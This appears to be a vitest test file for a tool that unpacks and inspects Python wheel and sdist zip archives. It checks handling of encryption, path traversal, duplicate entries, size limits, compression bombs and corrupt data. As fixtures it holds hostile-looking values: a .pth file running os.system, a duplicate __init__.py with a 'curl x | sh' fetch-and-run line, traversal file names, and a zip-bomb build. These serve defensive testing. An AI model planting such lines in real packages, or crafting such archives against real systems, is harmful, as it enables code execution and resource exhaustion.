import { deflateRawSync } from 'node:zlib';
import AdmZip from 'adm-zip';
import { describe, expect, it } from 'vitest';
import type { PackageContents } from '../../src/model/contents.js';
import { unpackArtifact } from '../../src/unpack/index.js';
import { zipArchive, type ZipMember } from './zip-builder.js';

const text = (contents: PackageContents, path: string): string | undefined => {
  const file = contents.files.find((f) => f.path === path);
  return file && Buffer.from(file.data).toString('utf8');
};
const paths = (contents: PackageContents): string[] => contents.files.map((f) => f.path);
const unpackZip = (members: ZipMember[], limits = {}) => unpackArtifact(zipArchive(members), 'demo.whl', limits);

describe('zip layouts', () => {
  it('keeps wheel paths as they are (top-level .dist-info)', async () => {
    const zip = new AdmZip();
    zip.addFile('demo/__init__.py', Buffer.from('from .core import run\n'));
    zip.addFile('demo/core.py', Buffer.from('def run(): pass\n'));
    zip.addFile('demo-1.0.dist-info/METADATA', Buffer.from('Name: demo\n'));
    zip.addFile('demo-1.0.dist-info/WHEEL', Buffer.from('Wheel-Version: 1.0\n'));
    const contents = await unpackArtifact(zip.toBuffer(), 'demo-1.0-py3-none-any.whl');
    expect(contents.error).toBeUndefined();
    expect(contents.format).toBe('zip');
    expect(contents.root).toBe('');
    expect(paths(contents).sort()).toEqual([
      'demo-1.0.dist-info/METADATA',
      'demo-1.0.dist-info/WHEEL',
      'demo/__init__.py',
      'demo/core.py',
    ]);
    expect(text(contents, 'demo/core.py')).toBe('def run(): pass\n');
  });

  it('does not strip a wheel whose only other content is one package folder', async () => {
    const contents = await unpackZip([
      { name: 'demo-1.0.dist-info/RECORD', data: '' },
      { name: 'demo-1.0.dist-info/', data: '' },
    ]);
    expect(contents.root).toBe('');
    expect(paths(contents)).toEqual(['demo-1.0.dist-info/RECORD']);
  });

  it('strips the single top folder of a zip sdist', async () => {
    const contents = await unpackZip([
      { name: 'demo-1.0/', data: '' },
      { name: 'demo-1.0/setup.py', data: 'setup()\n', method: 0 },
      { name: 'demo-1.0/PKG-INFO', data: 'Name: demo\n' },
    ]);
    expect(contents.error).toBeUndefined();
    expect(contents.root).toBe('demo-1.0/');
    expect(contents.files.map((f) => [f.path, f.archivePath, f.size])).toEqual([
      ['setup.py', 'demo-1.0/setup.py', 8],
      ['PKG-INFO', 'demo-1.0/PKG-INFO', 11],
    ]);
  });

  it('reads an empty zip', async () => {
    const contents = await unpackArtifact(zipArchive([]), 'empty.zip');
    expect(contents).toEqual({ format: 'zip', root: '', files: [], skipped: [] });
  });
});

describe('zip entries that are not kept', () => {
  it('skips encrypted entries, keeps the rest and reports the archive as not fully read', async () => {
    const contents = await unpackZip([
      { name: 'demo/__init__.py', data: 'x = 1\n' },
      { name: 'demo/secret.py', data: 'encrypted bytes', flags: 0x1, method: 0 },
      { name: 'demo-1.0.dist-info/WHEEL', data: 'w' },
    ]);
    expect(contents.error).toBe('demo.whl: zip entry demo/secret.py is encrypted and could not be inspected');
    expect(paths(contents)).toEqual(['demo/__init__.py', 'demo-1.0.dist-info/WHEEL']);
    expect(contents.skipped).toEqual([{ archivePath: 'demo/secret.py', reason: 'encrypted' }]);
  });

  it('reads entries marked symlink, FIFO or directory as the regular files pip writes', async () => {
    const contents = await unpackZip([
      { name: 'demo/link.pth', data: 'import os; os.system("id")', mode: 0o120777 },
      { name: 'demo/fifo.py', data: 'print(1)', mode: 0o010644 },
      { name: 'demo/dir.py', data: 'print(2)', mode: 0o040755 },
      { name: 'demo/real/', data: '', mode: 0o040755 },
      { name: 'demo-1.0.dist-info/WHEEL', data: 'w' },
    ]);
    expect(contents.error).toBeUndefined();
    expect(contents.skipped).toEqual([]);
    expect(paths(contents)).toEqual(['demo/link.pth', 'demo/fifo.py', 'demo/dir.py', 'demo-1.0.dist-info/WHEEL']);
    expect(text(contents, 'demo/link.pth')).toBe('import os; os.system("id")');
  });

  it('refuses absolute, traversal, backslash and drive-letter names', async () => {
    const contents = await unpackZip([
      { name: '/usr/lib/python3/evil.pth', data: 'x' },
      { name: '../../evil.pth', data: 'x' },
      { name: 'demo\\..\\..\\evil.py', data: 'x' },
      { name: '..\\evil.py', data: 'x' },
      { name: 'C:\\evil.py', data: 'x' },
      { name: 'demo/ok.py', data: 'ok' },
    ]);
    expect(contents.error).toBeUndefined();
    expect(paths(contents)).toEqual(['ok.py']);
    expect(contents.skipped.map((s) => [s.archivePath, s.reason])).toEqual([
      ['/usr/lib/python3/evil.pth', 'absolute-path'],
      ['../../evil.pth', 'path-traversal'],
      ['demo\\..\\..\\evil.py', 'path-traversal'],
      ['..\\evil.py', 'path-traversal'],
      ['C:\\evil.py', 'absolute-path'],
    ]);
  });

  it('keeps the last of duplicate entries, as zipfile does, and reports the earlier', async () => {
    const contents = await unpackZip([
      { name: 'demo/__init__.py', data: 'benign = True\n' },
      { name: 'demo-1.0.dist-info/WHEEL', data: 'w' },
      { name: 'demo/__init__.py', data: 'import os; os.system("curl x | sh")\n' },
    ]);
    expect(paths(contents)).toEqual(['demo-1.0.dist-info/WHEEL', 'demo/__init__.py']);
    expect(text(contents, 'demo/__init__.py')).toBe('import os; os.system("curl x | sh")\n');
    expect(contents.skipped).toEqual([
      {
        archivePath: 'demo/__init__.py',
        reason: 'duplicate-entry',
        detail: 'replaced by a later entry of the same path',
      },
    ]);
  });

  it('decodes names as CP437 unless flagged UTF-8, and cuts them at NUL', async () => {
    const cp437 = Buffer.concat([Buffer.from('demo/caf'), Buffer.from([0x82]), Buffer.from('.py')]);
    const badUtf8 = Buffer.concat([Buffer.from('demo/x'), Buffer.from([0xff]), Buffer.from('.py')]);
    const contents = await unpackZip([
      { name: cp437, data: 'a' },
      { name: Buffer.from('demo/naïve.py'), data: 'b', flags: 0x800 },
      { name: badUtf8, data: 'c', flags: 0x800 },
      { name: Buffer.from('demo/setup.py\0.txt'), data: 'd' },
    ]);
    expect(contents.error).toBeUndefined();
    expect(paths(contents)).toEqual(['café.py', 'naïve.py', 'x\uFFFD.py', 'setup.py']);
  });

  it('skips an entry with an unsupported compression method and reports it', async () => {
    const contents = await unpackZip([
      { name: 'demo/a.py', data: 'a' },
      { name: 'demo/b.py', method: 14, compressed: Buffer.from('not really lzma') },
      { name: 'demo/c.py', data: 'c' },
    ]);
    expect(paths(contents)).toEqual(['a.py', 'c.py']);
    expect(contents.skipped).toEqual([
      { archivePath: 'demo/b.py', reason: 'unreadable', detail: 'unsupported compression method 14' },
    ]);
    expect(contents.error).toBe('demo.whl: zip entry demo/b.py unreadable (unsupported compression method 14)');
  });

  it('reads bzip2-compressed entries (method 12, which zipfile supports)', async () => {
    const bz2 = Buffer.from('QlpoOTFBWSZTWWa//7IAAAFRgAAQQAAAItwAIAAiAaekIMmIHei4h+LuSKcKEgzX//ZA', 'base64');
    const contents = await unpackZip([{ name: 'demo/x.py', method: 12, compressed: bz2, declaredSize: 10 }]);
    expect(contents.error).toBeUndefined();
    expect(text(contents, 'x.py')).toBe('import os\n');
  });
});

describe('zip limits and damage', () => {
  it('skips a file over the per-file limit, by header or by actual bytes, and keeps reading', async () => {
    const contents = await unpackZip(
      [
        { name: 'demo/a.py', data: 'a' },
        { name: 'demo/declared.bin', data: Buffer.alloc(5000) },
        { name: 'demo/lying.bin', data: Buffer.alloc(5000), declaredSize: 100 },
        { name: 'demo/z.py', data: 'z' },
      ],
      { maxFileBytes: 4096 },
    );
    expect(paths(contents)).toEqual(['a.py', 'z.py']);
    expect(contents.skipped).toEqual([
      { archivePath: 'demo/declared.bin', reason: 'file-too-large', detail: '5000 bytes, limit 4096' },
      { archivePath: 'demo/lying.bin', reason: 'file-too-large', detail: 'over 4096 bytes' },
    ]);
  });

  it('keeps an entry whose data does not match its declared size, and reports the zip as corrupt', async () => {
    const contents = await unpackZip([
      { name: 'demo/short.py', data: 'print(1)\n', declaredSize: 4 },
      { name: 'demo/ok.py', data: 'ok' },
    ]);
    expect(paths(contents)).toEqual(['short.py', 'ok.py']);
    expect(text(contents, 'short.py')).toBe('print(1)\n');
    expect(contents.skipped).toEqual([]);
    expect(contents.error).toBe(
      'demo.whl: zip entry demo/short.py is corrupt (header says 4 bytes, data holds 9)',
    );
  });

  it('reads a small file whose header claims a size over the limit', async () => {
    const contents = await unpackZip([
      { name: 'demo/__init__.py', data: 'import os\n', declaredSize: 4_000_000_000 },
      { name: 'demo/big.bin', data: Buffer.alloc(100_000, 7), method: 0, declaredSize: 100_000 },
    ], { maxFileBytes: 50_000 });
    expect(text(contents, '__init__.py')).toBe('import os\n');
    expect(contents.skipped).toEqual([
      { archivePath: 'demo/big.bin', reason: 'file-too-large', detail: '100000 bytes, limit 50000' },
    ]);
    expect(contents.error).toBe(
      'demo.whl: zip entry demo/__init__.py is corrupt (header says 4000000000 bytes, data holds 10)',
    );
  });

  it('stops after too many entries', async () => {
    const members = Array.from({ length: 6 }, (_, i) => ({ name: `demo/f${i}.py`, data: `${i}` }));
    const contents = await unpackZip(members, { maxEntries: 3 });
    expect(paths(contents)).toEqual(['f0.py', 'f1.py', 'f2.py']);
    expect(contents.skipped).toEqual([
      { archivePath: 'demo/f3.py', reason: 'too-many-entries', detail: 'more than 3 entries' },
    ]);
    expect(contents.error).toBe('demo.whl: more than 3 entries; reading stopped at demo/f3.py');
  });

  it('stops an overlapping-entry zip bomb at the ratio limit without inflating it all', async () => {
    const zeros = deflateRawSync(Buffer.alloc(16 * 1024 * 1024), { level: 9 });
    const zip = zipArchive(
      [{ name: 'demo/a.bin', compressed: zeros, declaredSize: 16 * 1024 * 1024 }],
      { centralOnly: Array<number>(200).fill(0) },
    );
    expect(zip.length).toBeLessThan(40_000);
    const started = performance.now();
    const contents = await unpackArtifact(zip, 'bomb.whl');
    expect(performance.now() - started).toBeLessThan(2000);
    expect(contents.files).toEqual([]);
    expect(contents.skipped).toEqual([
      {
        archivePath: 'demo/a.bin',
        reason: 'compression-ratio',
        detail: 'decompressed data exceeds 200x the archive size (compression bomb)',
      },
    ]);
    expect(contents.error).toMatch(/^bomb\.whl: decompressed data exceeds 200x the archive size/);
  });

  it('stops a bomb whose header understates its size', async () => {
    const zeros = deflateRawSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 });
    const contents = await unpackZip([
      { name: 'demo/__init__.py', data: 'x' },
      { name: 'demo/small.txt', compressed: zeros, declaredSize: 10 },
    ]);
    expect(paths(contents)).toEqual(['__init__.py']);
    expect(contents.skipped.map((s) => [s.archivePath, s.reason])).toEqual([
      ['demo/small.txt', 'compression-ratio'],
    ]);
  });

  it('reports a truncated zip (no central directory) without throwing', async () => {
    const zip = zipArchive([{ name: 'demo/a.py', data: 'a'.repeat(1000), method: 0 }]);
    const contents = await unpackArtifact(zip.subarray(0, 200), 'cut.whl');
    expect(contents.format).toBe('zip');
    expect(contents.files).toEqual([]);
    expect(contents.error).toMatch(/^cut\.whl: not a readable zip archive \(End of central directory/);
  });

  it('keeps the entries before a corrupt central directory record', async () => {
    const zip = zipArchive([
      { name: 'demo/a.py', data: 'a' },
      { name: 'demo/b.py', data: 'b' },
    ]);
    const second = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    zip.writeUInt32LE(0xdeadbeef, second);
    const contents = await unpackArtifact(zip, 'bad.whl');
    expect(paths(contents)).toEqual(['a.py']);
    expect(contents.error).toBe(
      'bad.whl: corrupt zip archive (invalid central directory file header signature: 0xdeadbeef)',
    );
  });

  it('reports corrupt deflate data in one entry and keeps the others', async () => {
    const contents = await unpackZip([
      { name: 'demo/bad.py', compressed: Buffer.from([0xff, 0xff, 0xff, 0xff]), declaredSize: 10 },
      { name: 'demo/good.py', data: 'good' },
    ]);
    expect(paths(contents)).toEqual(['good.py']);
    expect(contents.skipped).toEqual([
      { archivePath: 'demo/bad.py', reason: 'unreadable', detail: 'invalid block type' },
    ]);
    expect(contents.error).toBe('demo.whl: zip entry demo/bad.py unreadable (invalid block type)');
  });
});
